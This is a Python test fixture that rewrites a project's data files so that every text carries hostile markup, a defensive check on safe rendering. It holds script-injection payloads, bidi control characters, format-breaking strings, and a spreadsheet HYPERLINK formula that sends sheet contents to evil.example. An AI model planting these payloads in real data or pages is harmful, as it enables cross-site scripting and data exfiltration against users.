"""The shipped data as a hostile contributor would have them: markup in every text that a file holds."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path
from typing import Any

import yaml

from tests.faults.serving_right import REPOSITORY

OTHER_HOST = "evil.example"
MARKUP = (
    "<script>hit()</script><img src=x onerror=hit()>[p](javascript:hit())"
    f"![i](https://{OTHER_HOST}/i.png) https://{OTHER_HOST} :red[r] :material/home: $x$ *e* `c` ->"
)
"""One of each: HTML, a script link, a picture and an address elsewhere, Streamlit's own marks, a formula, Markdown."""

INVISIBLE = "\u202e\u200b\u2066"
FORMULA = f'=HYPERLINK("https://{OTHER_HOST}/?"&A)+x '
"""A spreadsheet that ran it would send what stands elsewhere on the sheet away."""

BREAKING_OUT = (
    f"{MARKUP} '\"\\ \\input{{x}} }}}},\n}}\n@misc{{evil,\nER  - \nTY  - GEN\n"
    f"]]>--></title>&lt;b onload=hit()>{INVISIBLE}."
)
"""Besides the marks, what ends a text in the forms that files have: quotes, braces, lines, elements."""

CSV_TEXTS = ("subject_zh", "subject_en", "note_zh", "note_en", "locator")
SINGLE = ("locator", "citation_gbt7714", "bibtex")


def hostile_copy(target: Path, before: str = "", after: str = MARKUP) -> Path:
    """A data folder in which every text stands between ``before`` and ``after``."""
    shutil.copytree(REPOSITORY / "data", target, ignore=shutil.ignore_patterns("*.duckdb*"))
    loader = getattr(yaml, "CSafeLoader", yaml.SafeLoader)
    for path in target.rglob("*.yaml"):
        spoiled = _spoiled(yaml.load(path.read_text("utf-8"), Loader=_plain(loader)), before, after)
        dumper = getattr(yaml, "CSafeDumper", yaml.SafeDumper)
        path.write_text(yaml.dump(spoiled, Dumper=dumper, allow_unicode=True, sort_keys=False), "utf-8")
    _spoil_figures(target / "observations.csv", before, after)
    return target


def _plain(loader: Any) -> Any:
    """A loader that leaves dates as texts, as the product's own does."""
    kept = {
        first: [(tag, pattern) for tag, pattern in found if not tag.endswith(":timestamp")]
        for first, found in loader.yaml_implicit_resolvers.items()
    }
    return type("Plain", (loader,), {"yaml_implicit_resolvers": kept})


def _spoiled(value: Any, before: str, after: str, name: str = "") -> Any:
    if isinstance(value, dict):
        return {key: _spoiled(inner, before, after, key) for key, inner in value.items()}
    if isinstance(value, list):
        return [_spoiled(inner, before, after, name) for inner in value]
    if isinstance(value, str) and value and name in ("zh", "en", *SINGLE):
        return before + value + after
    return value


def _spoil_figures(path: Path, before: str, after: str) -> None:
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    for row in rows:
        row.update({name: before + row[name] + after for name in CSV_TEXTS if row[name]})
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
